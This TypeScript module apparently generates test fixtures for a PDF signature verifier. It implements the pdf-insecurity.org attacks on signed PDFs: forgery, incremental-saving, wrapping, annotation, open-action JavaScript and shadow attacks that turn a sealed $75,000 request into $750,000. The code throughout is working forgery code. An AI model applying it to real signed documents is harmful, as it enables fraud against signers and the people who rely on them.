import PDFDocument from 'pdfkit'
import { buffer } from 'node:stream/consumers'

// The attacks on signed PDFs that pdf-insecurity.org published, as changes of a sealed file.

export const toText = (pdf: Uint8Array): string => Buffer.from(pdf).toString('latin1')
export const toPdf = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'))

const last = (text: string, pattern: RegExp): RegExpMatchArray => {
  const found = [...text.matchAll(new RegExp(pattern, 'g'))].at(-1)
  if (!found) throw new Error(`no ${pattern} in the file`)
  return found
}
const numberOf = (text: string, pattern: RegExp): number => Number(last(text, pattern)[1])

/** The newest text of an object. */
export const objectText = (text: string, id: number): string =>
  last(text, new RegExp(`(?:^|[\\r\\n])${id} 0 obj\\s*([^]*?)\\s*endobj`))[1] ?? ''

export const ids = (pdf: Uint8Array) => {
  const text = toText(pdf)
  const root = numberOf(text, /\/Root (\d+) 0 R/)
  const catalog = objectText(text, root)
  const page = numberOf(text.slice(0, text.indexOf('/Type /Page\n') + 1), /[\r\n](\d+) 0 obj/)
  return {
    root,
    catalog,
    page,
    pages: numberOf(catalog, /\/Pages (\d+) 0 R/),
    form: numberOf(catalog, /\/AcroForm (\d+) 0 R/),
    content: numberOf(objectText(text, page), /\/Contents (\d+) 0 R/),
    font: numberOf(text.slice(0, text.indexOf('/Type /Font\n') + 1), /[\r\n](\d+) 0 obj/),
    signature: numberOf(text.slice(0, text.lastIndexOf('/Type /Sig\n') + 1), /[\r\n](\d+) 0 obj/),
    size: numberOf(text, /\/Size (\d+)/),
    startxref: numberOf(text, /startxref\s+(\d+)/),
  }
}

type Update = {
  trailer?: (trailer: string) => string
  freed?: number[]
  startxref?: number
  hasTable?: boolean
}

/** Appends objects as a program that saves incrementally does. */
export function append(pdf: Uint8Array, objects: Record<number, string>, update: Update = {}): Uint8Array {
  const { trailer = (text) => text, freed = [], hasTable = true } = update
  let text = toText(pdf)
  const { size, startxref } = ids(pdf)
  const sealed = last(text, /trailer\s*(<<[^]*?>>)\s*startxref/)[1] ?? ''
  const entries: [number, string][] = freed.map((id) => [id, '0000000000 00001 f '])
  for (const [id, body] of Object.entries(objects)) {
    entries.push([Number(id), `${String(text.length).padStart(10, '0')} 00000 n `])
    text += `${id} 0 obj\n${body}\nendobj\n`
  }
  if (!hasTable) return toPdf(text)
  const next = Math.max(size, ...Object.keys(objects).map((id) => Number(id) + 1))
  const at = text.length
  const rows = entries.map(([id, entry]) => `${id} 1\n${entry}\n`).join('')
  const plain = sealed.replace(/\/Prev \d+/, '').replace(/\/Size \d+/, `/Size ${next}\n/Prev ${startxref}`)
  text += `xref\n${rows}trailer\n${trailer(plain)}\nstartxref\n${update.startxref ?? at}\n%%EOF\n`
  return toPdf(text)
}

export const streamObject = (content: string, dict = ''): string =>
  `<<\n${dict}/Length ${content.length}\n>>\nstream\n${content}\nendstream`

const FORGED = streamObject('BT /F1 24 Tf 72 700 Td (Amount requested: $750,000) Tj ET')
const SEAL = /\/ByteRange \[0 (\d+) +(\d+) +(\d+) *\]\s*\/Contents <([0-9a-f]+)>/

const parts = (pdf: Uint8Array) => {
  const text = toText(pdf)
  const [all = '', first = 0, second = 0, rest = 0, digits = ''] = last(text, SEAL)
  return { text, all, first: Number(first), second: Number(second), rest: Number(rest), digits }
}

/** Changes the signature where it stands, by text of the same length. */
const inPlace = (pdf: Uint8Array, from: string | RegExp, to: string): Uint8Array => {
  const { text, all } = parts(pdf)
  const changed = all.replace(from, (found) => to.padEnd(found.length))
  return toPdf(text.replace(all, () => changed))
}

/** Changes a copy of the signature dictionary in an update, together with the page. */
const inUpdate = (pdf: Uint8Array, from: string | RegExp, to: string): Uint8Array => {
  const { signature, content } = ids(pdf)
  const changed = objectText(toText(pdf), signature).replace(from, to)
  return append(pdf, { [signature]: changed, [content]: FORGED })
}

const RANGE = /\/ByteRange \[[^\]]*\]/
const CONTENTS = /\/Contents <[0-9a-f]*>/

/**
 * The signed bytes stay the same, but the second part of them moves to the end. In the gap stand a page of the
 * attacker's, a copy of the signature with the new range, and a table where the untouched `startxref` looks for one.
 */
export function wrap(pdf: Uint8Array, how: 'copy' | 'duplicate'): Uint8Array {
  const { text, first, second, rest, digits } = parts(pdf)
  const { content, signature, startxref, size } = ids(pdf)
  const table = (gap: string, offsets: Record<number, number>) => {
    const rows = Object.entries(offsets).map(
      ([id, at]) => `${id} 1\n${String(at).padStart(10, '0')} 00000 n \n`,
    )
    const trailer = last(text, /trailer\s*(<<[^]*?>>)\s*startxref/)[1]
    const previous = numberOf(text, /\/Prev (\d+)/)
    const old = text.slice(startxref, text.indexOf('trailer', startxref))
    const kept = [...old.matchAll(/(\d+) (\d+)\s*\n((?:\d{10} \d{5} [nf] ?\r?\n)+)/g)].flatMap(
      ([, from, , lines]) =>
        (lines ?? '')
          .trim()
          .split('\n')
          .map((line, index) => [Number(from) + index, line.trim()] as const),
    )
    const others = kept
      .filter(([id]) => !(id in offsets))
      .map(([id, line]) => {
        const at = Number(line.slice(0, 10))
        return `${id} 1\n${String(at >= second ? at + moved : at).padStart(10, '0')} 00000 n \n`
      })
    return `${gap}xref\n${[...rows, ...others].join('')}trailer\n${String(trailer)
      .replace(/\/Prev \d+/, `/Prev ${previous}`)
      .replace(/\/Size \d+/, `/Size ${size}`)}\nstartxref\n${startxref}\n%%EOF\n`
  }
  const moved = 40_000
  const range = `/ByteRange [0 ${first} ${second + moved} ${rest}]`
  const offsets: Record<number, number> = {}
  // The zeros behind a signature are room for the attacker.
  const short = `<${digits.replace(/(00)+$/, '')}>`
  let gap = how === 'duplicate' ? `${short}\n${range}\n>>\nendobj\n` : '\n'
  const put = (id: number, body: string) => {
    offsets[id] = first + gap.length
    gap += `${id} 0 obj\n${body}\nendobj\n`
  }
  if (how === 'copy')
    put(signature, objectText(text, signature).replace(RANGE, range).replace(CONTENTS, `/Contents ${short}`))
  put(content, FORGED)
  const room = startxref - (first + gap.length)
  if (room >= 0) gap = table(gap.padEnd(startxref - first, ' '), offsets)
  else throw new Error(`the gap is ${-room} too long`)
  gap = gap.padEnd(second + moved - first, ' ')
  return toPdf(text.slice(0, first) + gap + text.slice(second, second + rest))
}

/** The published attacks on a sealed file that its sealer prepared nothing in. */
export const ATTACKS: Record<string, (pdf: Uint8Array) => Uint8Array> = {
  'forgery: no byte range': (pdf) => inPlace(pdf, RANGE, ''),
  'forgery: a byte range of null': (pdf) => inPlace(pdf, RANGE, '/ByteRange null'),
  'forgery: an empty byte range': (pdf) => inPlace(pdf, RANGE, '/ByteRange [0 0 0 0]'),
  'forgery: a negative byte range': (pdf) => inPlace(pdf, RANGE, '/ByteRange [0 -1 -1 -1]'),
  'forgery: no contents': (pdf) => inPlace(pdf, CONTENTS, ''),
  'forgery: contents of null': (pdf) => inPlace(pdf, CONTENTS, '/Contents null'),
  'forgery: contents of one zero': (pdf) => inPlace(pdf, CONTENTS, '/Contents <00>'),
  'forgery: no byte range, in an update': (pdf) => inUpdate(pdf, RANGE, ''),
  'forgery: contents of null, in an update': (pdf) => inUpdate(pdf, CONTENTS, '/Contents null'),
  'forgery: an unknown kind of signature': (pdf) => inUpdate(pdf, /ETSI\.CAdES\.detached/, 'adbe.unknown'),
  'incremental saving: a page replaced': (pdf) => append(pdf, { [ids(pdf).content]: FORGED }),
  'incremental saving: without a table': (pdf) =>
    append(pdf, { [ids(pdf).content]: FORGED }, { hasTable: false }),
  'incremental saving: with the old startxref': (pdf) =>
    append(pdf, { [ids(pdf).content]: FORGED }, { startxref: ids(pdf).startxref }),
  'incremental saving: with a copy of the signature': (pdf) => {
    const { content, signature } = ids(pdf)
    return append(pdf, { [content]: FORGED, [signature]: objectText(toText(pdf), signature) })
  },
  'incremental saving: without an end': (pdf) => {
    const changed = toText(append(pdf, { [ids(pdf).content]: FORGED }))
    return toPdf(changed.slice(0, changed.lastIndexOf('%%EOF')))
  },
  'wrapping: the second part moved, the signature copied': (pdf) => wrap(pdf, 'copy'),
  'wrapping: the second part moved, two byte ranges': (pdf) => wrap(pdf, 'duplicate'),
  'evil annotation': (pdf) => {
    const { page, size } = ids(pdf)
    const text = objectText(toText(pdf), page)
    return append(pdf, {
      [page]: text.replace('<<', `<<\n/Annots [${size} 0 R]`),
      [size]:
        '<<\n/Type /Annot\n/Subtype /FreeText\n/Rect [50 600 400 700]\n/Contents (Paid)\n/DA (/Helv 24 Tf)\n>>',
    })
  },
  'sneaky signature: a field that shows a forged text': (pdf) => {
    const { form, size } = ids(pdf)
    const fields = objectText(toText(pdf), form).replace(/\/Fields \[/, `/Fields [${size} 0 R `)
    const box = '/Rect [50 600 400 700]\n/F 4'
    return append(pdf, {
      [form]: fields,
      [size]: `<<\n/FT /Sig\n/T (Signature_2)\n/Type /Annot\n/Subtype /Widget\n${box}\n/AP <<\n/N ${size + 1} 0 R\n>>\n>>`,
      [size + 1]: streamObject(
        'BT /Helv 24 Tf (Paid) Tj ET',
        '/Type /XObject\n/Subtype /Form\n/BBox [0 0 350 100]\n',
      ),
    })
  },
  'a script that runs when the file opens': (pdf) => {
    const { root, catalog } = ids(pdf)
    return append(pdf, { [root]: catalog.replace('<<', '<<\n/OpenAction <<\n/S /JavaScript\n/JS (x)\n>>') })
  },
  'another catalog by the trailer': (pdf) => {
    const { catalog, size } = ids(pdf)
    const trailer = (text: string) => text.replace(/\/Root \d+/, `/Root ${size}`)
    return append(pdf, { [size]: catalog.replace('<<', '<<\n/PageMode /FullScreen') }, { trailer })
  },
  'a font replaced': (pdf) =>
    append(pdf, {
      [ids(pdf).font]: '<<\n/Type /Font\n/BaseFont /Symbol\n/Subtype /Type1\n>>',
    }),
}

/** A file whose maker hid something to show later. */
export async function shadowed(kind: 'hide' | 'replace' | 'hide-and-replace'): Promise<Uint8Array> {
  const document = new PDFDocument({ size: 'LETTER', pdfVersion: '1.7' })
  document.fontSize(20).text('Amount requested: $75,000')
  if (kind === 'hide') document.rect(60, 60, 400, 40).fill('#ffffff')
  if (kind === 'replace') {
    document.initForm()
    document.formText('amount', 72, 200, 200, 30, { value: '$75,000' })
  }
  if (kind === 'hide-and-replace') {
    const content = document.ref({})
    content.end('BT 72 700 Td (Amount requested: $750,000) Tj ET')
    const pages = document.ref({ Type: 'Pages', Count: 1, Shadow: true })
    const page = document.ref({ Type: 'Page', MediaBox: [0, 0, 612, 792], Contents: content, Parent: pages })
    Object.assign(pages.data, { Kids: [page] })
    for (const each of [page, pages]) each.end('')
  }
  document.end()
  return new Uint8Array(await buffer(document))
}

export const SHADOWS: Record<
  string,
  ['hide' | 'replace' | 'hide-and-replace', (pdf: Uint8Array) => Uint8Array]
> = {
  'shadow: a cover is freed': ['hide', (pdf) => append(pdf, {}, { freed: [ids(pdf).content] })],
  'shadow: a cover is replaced': ['hide', (pdf) => append(pdf, { [ids(pdf).content]: FORGED })],
  'shadow: the text of a field is replaced': [
    'replace',
    (pdf) => {
      const text = toText(pdf)
      const field = numberOf(text.slice(0, text.indexOf('/FT /Tx') + 1), /[\r\n](\d+) 0 obj/)
      return append(pdf, { [field]: objectText(text, field).replace(/\$75,000/g, '$750,000') })
    },
  ],
  'shadow: the catalog shows hidden pages': [
    'hide-and-replace',
    (pdf) => {
      const text = toText(pdf)
      const { root, catalog } = ids(pdf)
      const hidden = numberOf(text.slice(0, text.indexOf('/Shadow true') + 1), /[\r\n](\d+) 0 obj/)
      return append(pdf, { [root]: catalog.replace(/\/Pages \d+/, `/Pages ${hidden}`) })
    },
  ],
}
